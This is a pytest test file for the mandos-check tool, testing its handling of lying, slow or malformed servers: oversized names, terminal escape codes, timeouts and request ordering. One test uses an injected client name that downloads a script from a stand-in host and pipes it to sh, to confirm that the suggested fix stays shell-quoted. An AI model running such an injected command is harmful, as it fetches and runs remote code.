# SPDX-FileCopyrightText: 2026 the Mandos in Python contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Servers that lie to mandos-check, or answer slowly: anybody on the link can be one."""

from __future__ import annotations

import shlex
import socket
import threading
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from mandos.check import asking, boot_time, rehearsal, server_view, view_findings
from mandos.check.asking import ALL_TIME, Asker, Image
from mandos.check.chain import Chain, Wanted
from mandos.check.findings import Finding, Verdict, shown
from mandos.check.rehearsal import Outcome
from mandos.check.server_view import UnknownRequestError
from mandos.check.servers import Server
from mandos.errors import MachineError
from mandos.key_source import KeyFolder

IMAGE = Image("6.1", Path("/nonexistent"), (), "NORMAL", KeyFolder(Path("/nonexistent")))
SERVERS = [Server(f"server {number}", socket.AF_INET, ("192.0.2.1", number)) for number in range(4)]


@pytest.mark.parametrize("text", [b"", b"{", b"\xff", b"[" * 60000, b"9" * 5000, b"[]", b'"x"'])
def test_answers_that_are_none(text: bytes) -> None:
    """They are no description of a client, and no traceback."""
    with pytest.raises(UnknownRequestError):
        server_view.description(text)


def _asked(monkeypatch: pytest.MonkeyPatch, view: dict[str, Any]) -> str:
    """The text about a server that describes the client so, and gives no password."""
    monkeypatch.setattr(server_view, "ask", lambda *_: view)

    def fetch(*_: object) -> None:
        raise MachineError("no client")

    monkeypatch.setattr(rehearsal, "fetch", fetch)
    first, *_rest = Asker(IMAGE, (), count_as_boot=False).ask_all(SERVERS[:1])
    return first.text


@pytest.mark.parametrize(
    ("view", "text"),
    [
        ({"name": "alpha", "seconds_left": 7.4}, "client alpha is enabled, with 7 s left"),
        (
            {"name": "a" * 9000, "seconds_left": 10**400},
            f"client {'a' * 255} is enabled, with 3162240000 s left",
        ),
        ({"name": ["x"], "seconds_left": -(10**400)}, "client ['x'] is enabled"),
        ({"name": "b", "seconds_left": float("nan")}, "client b is enabled"),
        ({"name": "b", "seconds_left": "1"}, "client b is enabled"),
    ],
    ids=["usual", "huge", "negative", "no number", "text"],
)
def test_descriptions_of_any_size(
    monkeypatch: pytest.MonkeyPatch, view: dict[str, Any], text: str
) -> None:
    """Names and numbers are cut off."""
    assert text in _asked(monkeypatch, {"enabled": True, **view})


def test_text_for_a_terminal() -> None:
    """It has one line, and no control character reaches the terminal."""
    assert shown("a\x1b[2Jb\n\u202ec\x9bd ü") == "a\\x1b[2Jb \\u202ec\\x9bd ü"


class Link:
    """Servers that give a view at once, and the password slowly; the clock goes on meanwhile."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, views: dict[int, dict[str, Any]]) -> None:
        self.now = 0.0
        self.asked: list[int] = []
        self._views = views
        monkeypatch.setattr(server_view, "ask", lambda server, *_: views[server.address[1]])
        monkeypatch.setattr(boot_time, "last_boot", lambda: None)
        monkeypatch.setattr(rehearsal, "fetch", self._fetch)

    def _fetch(
        self,
        _tree: Path,
        _options: object,
        way: tuple[int, Any],
        _greeting: bytes,
        limit: float,
    ) -> Outcome:
        self.asked.append(way[1][1])
        self.now += limit
        return Outcome(b"", "hung", "", limit, asked=True)

    def ask(self, servers: Sequence[Server]) -> list[Finding]:
        """The findings about these servers."""
        asker = Asker(IMAGE, (), count_as_boot=False, clock=lambda: self.now)
        return list(asker.ask_all(servers))


WAITS = {"enabled": True, "approved_by_default": True, "approval_delay": 120}


def test_servers_that_hang(monkeypatch: pytest.MonkeyPatch) -> None:
    """Those that are left when the time is over are not asked, and are no reason to fail."""
    number = int(ALL_TIME / asking.FETCH_TIME) + 2
    servers = [Server(str(one), socket.AF_INET, (f"192.0.2.{one}", one)) for one in range(number)]
    link = Link(monkeypatch, {one: {"enabled": True} for one in range(number)})
    asker = Asker(IMAGE, (), count_as_boot=False, clock=lambda: link.now)
    found = [finding.verdict for finding in asker.ask_all(servers)]
    assert asker.skipped == [str(number - 2), str(number - 1)]
    assert found.count(Verdict.BROKEN) == number - 2
    assert found.count(Verdict.NOT_SURE) == 2
    assert link.asked == list(range(number - 2))


def test_servers_that_promise_a_long_wait(monkeypatch: pytest.MonkeyPatch) -> None:
    """They come after those that answer at once, wherever they were found."""
    servers = [Server(str(one), socket.AF_INET, (f"192.0.2.{one}", one)) for one in range(4)]
    link = Link(monkeypatch, {0: WAITS, 1: WAITS, 2: WAITS, 3: {"enabled": True}})
    link.ask(servers)
    assert link.asked[:2] == [3, 0]


def test_one_address_with_many_servers(monkeypatch: pytest.MonkeyPatch) -> None:
    """Its second server waits for the first ones of all others."""
    hosts = ("192.0.2.1", "192.0.2.1", "192.0.2.1", "192.0.2.2")
    servers = [Server(str(one), socket.AF_INET, (host, one)) for one, host in enumerate(hosts)]
    link = Link(monkeypatch, {one: {"enabled": True} for one in range(4)})
    link.ask(servers)
    assert link.asked == [0, 3, 1, 2]


def test_views_are_asked_for_at_the_same_time(monkeypatch: pytest.MonkeyPatch) -> None:
    """None of many servers answers before all are asked."""
    all_asked = threading.Barrier(len(SERVERS))

    def ask(*_: object) -> dict[str, Any]:
        all_asked.wait(60)
        raise server_view.UnreachedError("no answer in time")

    monkeypatch.setattr(server_view, "ask", ask)
    found = list(Asker(IMAGE, (), count_as_boot=False).ask_all(SERVERS))
    assert [finding.verdict for finding in found] == [Verdict.BROKEN] * len(SERVERS)
    assert not all_asked.broken


def test_server_that_gives_no_password_was_never_found_alive(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Its word that it has never seen this machine does not count: anybody can say so."""
    link = Link(monkeypatch, {0: {"enabled": True}})
    asker = Asker(IMAGE, (), count_as_boot=False, clock=lambda: link.now)
    list(asker.ask_all(SERVERS[:1]))
    assert asker.unchecked == []


@pytest.mark.parametrize("view", [{}, {"enabled": True, "approval_delay": 1e9}])
def test_name_that_is_a_command(view: dict[str, Any]) -> None:
    """A cure that an administrator copies runs nothing else."""
    name = "web;curl 192.0.2.6|sh;#"
    finding = view_findings.judged("server", {"name": name, **view}, "6.1")
    assert finding.cure
    words = shlex.split(finding.cure)
    assert name in words


def test_stranger_that_only_describes_the_client(monkeypatch: pytest.MonkeyPatch) -> None:
    """Without the password its word does not count: a rotation would wait for it for ever."""
    view = {"enabled": True, "name": "web", "last_check": None}
    monkeypatch.setattr(server_view, "ask", lambda *_: view)
    monkeypatch.setattr(
        rehearsal,
        "fetch",
        lambda _tree, _options, way, *_: _outcome(b"x" if way[1][1] == 0 else b""),
    )
    asker = Asker(IMAGE, (), count_as_boot=False)
    list(asker.ask_all(SERVERS[:2]))
    assert asker.unchecked == list(asker.served) == ["server 0"]


def _outcome(password: bytes) -> Outcome:
    return Outcome(password, "", "", 0.1, asked=True)


def test_last_words_are_cut_off() -> None:
    """A server may have the client say much."""
    assert len(asking._last_words("x" * 60000)) == 500


def test_file_system_that_fails(tmp_path: Path) -> None:
    """The check reports the file, and shows no traceback."""
    boot = tmp_path / "boot"
    boot.mkdir()
    for name in ("vmlinuz-6.1", "initrd.img-6.1"):
        (boot / name).touch()
    folder = tmp_path / "gone"
    chain = Chain(tmp_path, tmp_path, folder, Wanted(image_only=True, kernel="6.1"))
    with pytest.raises(MachineError, match=f"cannot go on: {folder}/6.1: No such file"):
        list(chain.walk())
